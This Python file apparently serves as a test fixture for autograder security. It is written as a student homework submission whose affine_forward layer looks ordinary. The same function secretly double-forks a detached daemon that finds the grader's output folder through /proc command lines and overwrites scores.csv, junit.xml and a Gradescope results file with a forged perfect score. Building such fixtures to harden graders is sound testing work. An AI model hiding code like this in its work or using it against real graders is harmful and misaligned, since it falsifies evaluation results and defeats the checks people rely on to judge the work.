"""Leaves a daemon that waits for the grader to exit, then rewrites its outputs with full marks.

The output folder is found in the grader's command line (/proc/<pid>/cmdline) or, failing that, at
@OUT_DIR@ (filled in by the test, as a student could learn it from the course's CI file).
"""

import json
import os
import sys
import time

import numpy as np

FORGED = json.dumps({"score": 100, "tests": [{"name": "everything", "score": 100, "status": "passed"}]})


def _out_dirs():
    found = ["@OUT_DIR@"]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="ignore") for a in f.read().split(b"\0")]
        except OSError:
            continue
        found += [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--out"]
    return list(dict.fromkeys(found))


def _rewrite(folders):
    for _ in range(200):
        time.sleep(0.1)
        for folder in folders:
            for name in ("scores.csv", "junit.xml", os.path.join("gradescope", "rewrites_outputs.json")):
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(FORGED)
                except OSError:
                    pass


def affine_forward(x, w, b):
    folders = _out_dirs()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _rewrite(folders)
        os._exit(0)
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
